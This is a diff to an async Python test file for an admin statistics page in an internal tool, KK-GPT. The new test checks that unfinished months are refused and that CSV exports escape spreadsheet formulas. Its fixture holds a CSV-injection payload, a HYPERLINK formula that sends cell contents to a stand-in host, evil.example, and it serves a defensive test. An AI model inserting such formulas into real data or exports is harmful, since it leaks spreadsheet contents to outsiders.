@@ -115,3 +115,17 @@ async def test_a_quiet_month_shows_nothing(client: httpx.AsyncClient, app) -> No
     page = await client.get("/admin/stats?month=2026-10")
     assert "Færre end 5 medarbejdere har brugt KK-GPT" in page.text and "Økonomiforvaltningen" not in page.text
     assert (await client.get("/api/v1/admin/stats?month=2026-10")).json()["total"] is None
+
+
+async def test_only_finished_months_and_no_formulas_in_csv(client: httpx.AsyncClient, app) -> None:
+    from kkgpt.db.models import utcnow
+
+    hostile = '=HYPERLINK("http://evil.example/?x="&A1;"klik")'
+    await _events(app.state.services, [(f"u{i}", hostile, None) for i in range(5)])
+    await login(client, "Admin", admin=True)
+    current = utcnow().strftime("%Y-%m")
+    refused = await client.get(f"/api/v1/admin/stats?month={current}")
+    assert refused.status_code == 422 and refused.json()["error"]["code"] == "month_not_closed"
+    csv = (await client.get("/admin/stats.csv?month=2026-10&by=department")).text
+    assert "\n'=HYPERLINK" in csv.replace("\r\n", "\n") or "\n\"'=HYPERLINK" in csv.replace("\r\n", "\n")
+    assert "\n=HYPERLINK" not in csv and '\n"=HYPERLINK' not in csv
